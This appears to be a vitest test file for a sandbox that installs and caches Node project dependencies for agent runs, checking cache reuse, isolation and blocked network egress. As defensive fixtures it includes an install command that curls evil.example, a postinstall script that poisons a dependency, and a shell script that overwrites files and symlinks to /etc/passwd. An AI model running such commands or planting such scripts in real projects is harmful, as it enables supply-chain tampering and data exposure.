import { access } from 'node:fs/promises'
import { join } from 'node:path'

import { expect, onTestFinished, test } from 'vitest'

import { startNpmRegistry, type NpmRegistry } from '../support/npm-registry.ts'
import { sh } from '../sandbox/made.ts'
import { land, told, type Land } from './land.ts'

const leftish = { name: 'leftish', version: '1.2.0', files: { 'index.js': 'module.exports = (text) => text.padStart(9)' } }

function app(npm: NpmRegistry): Record<string, string> {
  return {
    'package.json': JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { leftish: '1.2.0' } }),
    'package-lock.json': npm.lock('app'),
    '.gitignore': 'node_modules/\n',
    'app.test.js': `require('node:test')('pads', () => require('node:assert').equal(require('leftish')('x'), '        x'))\n`,
  }
}

async function here(more: { files?: Record<string, string>; install?: string } = {}): Promise<{ npm: NpmRegistry; place: Land; fetched: () => number }> {
  const npm = await startNpmRegistry([leftish])
  const place = await land({ ...app(npm), ...more.files }, { install: more.install ?? 'npm ci', test: 'node --test' }, { env: { NPM_CONFIG_REGISTRY: npm.url } })
  onTestFinished(async () => {
    await place[Symbol.asyncDispose]()
    await npm[Symbol.asyncDispose]()
  })
  return { npm, place, fetched: () => npm.asked.filter((path) => path.endsWith('.tgz')).length }
}

test('a Node project with a dependency: fetched once, by whoever comes first, and handed to the others while nothing can be fetched', async () => {
  const { npm, place, fetched } = await here()
  await using first = await place.tree('first')
  await using second = await place.tree('second')
  const [one, two] = await Promise.all([place.check(first), place.check(second)])
  expect([told(one), told(two)]).toEqual(['install 0, test 0', 'install 0, test 0'])
  expect(fetched()).toBe(1)
  expect([one[0]?.note ?? '', two[0]?.note ?? ''].toSorted((a, b) => a.localeCompare(b))).toEqual([
    expect.stringMatching(/^fetched from 127\.0\.0\.1:\d+ \(\d+ KiB\)$/),
    'kept from an earlier set-up with the same inputs',
  ])

  await npm[Symbol.asyncDispose]()
  await using third = await place.tree('third')
  expect(told(await place.check(third))).toBe('install 0, test 0')
  // Set-up is over: tests and whatever an agent runs have no way out, and no trace of one.
  expect((await sh(third.sandbox, `env | grep -ic proxy; curl -sS http://${npm.host}/leftish 2>&1`)).stdout).toMatch(/^0\n.*(refused|connect)/)
})

test('a copy is its own: what one run does to it shows in no other', async () => {
  const { place } = await here()
  await using first = await place.tree('first')
  await place.prepare(first)
  await sh(first.sandbox, `echo 'module.exports = () => "poisoned"' > node_modules/leftish/index.js; echo x > ~/left`)
  await using second = await place.tree('second')
  expect(told(await place.check(second))).toBe('install 0, test 0')
  expect((await sh(second.sandbox, 'ls -A ~ | grep left')).stdout).toBe('')
})

test('other manifests, another repository or another command is another set-up; other sources are the same', async () => {
  const { place, fetched } = await here()
  await using first = await place.tree('first')
  await place.prepare(first)
  await place.write({ 'README.md': 'Words.\n' })
  await using worded = await place.tree('worded')
  expect((await place.prepare(worded))[0]?.note).toMatch(/^kept/)
  expect(fetched()).toBe(1)
  await using foreign = await place.tree('foreign', { repository: 43 })
  await place.prepare(foreign)
  expect(fetched()).toBe(2)
  await using other = await place.tree('other')
  await place.prepare({ ...other, procedures: { ...other.procedures, install: 'npm ci --no-audit' } })
  expect(fetched()).toBe(3)
  await place.write({ 'package.json': JSON.stringify({ name: 'app', version: '1.0.0', description: 'New.', dependencies: { leftish: '1.2.0' } }) })
  await using changed = await place.tree('changed')
  await place.prepare(changed)
  expect(fetched()).toBe(4)
})

test("an install that runs the repository's own scripts is done anew for every change: a script that was withdrawn leaves nothing", async () => {
  const scripts = { name: 'app', version: '1.0.0', scripts: { postinstall: 'node setup.js' }, dependencies: { leftish: '1.2.0' } }
  const poison = `require('fs').writeFileSync('node_modules/leftish/index.js', 'module.exports = () => "poisoned"')\n`
  const { place } = await here({ files: { 'package.json': JSON.stringify(scripts), 'setup.js': poison } })
  await using hostile = await place.tree('hostile')
  expect(told(await place.check(hostile))).toBe('install 0, test 1')
  await place.write({ 'setup.js': '// nothing to do\n' })
  await using mended = await place.tree('mended')
  expect(told(await place.check(mended))).toBe('install 0, test 0')
})

test('an install that fails says why, with what was refused on its way out, and is tried again', async () => {
  const { place, fetched } = await here({ install: 'npm ci --ignore-scripts && curl -sS https://evil.example/x; touch stray; exit 7' })
  for (const run of ['first', 'second']) {
    await using tree = await place.tree(run)
    const results = await place.check(tree)
    expect(told(results)).toBe('install 7')
    expect(results[0]?.output).toContain('refused on the way out: evil.example:443: evil.example:443 is not an allowed registry')
    await expect(access(join(tree.workspace.dir, 'stray'))).rejects.toThrow('ENOENT')
  }
  expect(fetched()).toBe(2)
})

test('links that an install leaves lead nowhere on the host, and the files of the repository stay what they were', async () => {
  const script = `rm -rf docs; mkdir docs; echo evil > docs/new; echo evil > README.md
ln -s /etc made; mkdir out; ln -s /etc/passwd out/passwd; mkdir .git; touch ~/x
rm linked; mkdir linked; echo evil > linked/missions-was-here\n`
  const place = await land({ 'setup.sh': script, 'docs/a': 'a\n', 'README.md': 'ours\n', linked: { link: '/etc' } }, { install: 'bash setup.sh' })
  onTestFinished(() => place[Symbol.asyncDispose]())
  for (const run of ['first', 'second']) {
    await using tree = await place.tree(run)
    expect(told(await place.prepare(tree))).toBe('install 0')
    const seen = await sh(tree.sandbox, 'cat README.md docs/a docs/new; readlink linked made out/passwd; ls ~; ls -d .git 2>/dev/null')
    expect(seen.stdout).toBe('ours\na\nevil\n/etc\n/etc\n/etc/passwd\nx\n')
    await expect(access('/etc/missions-was-here')).rejects.toThrow('ENOENT')
  }
})
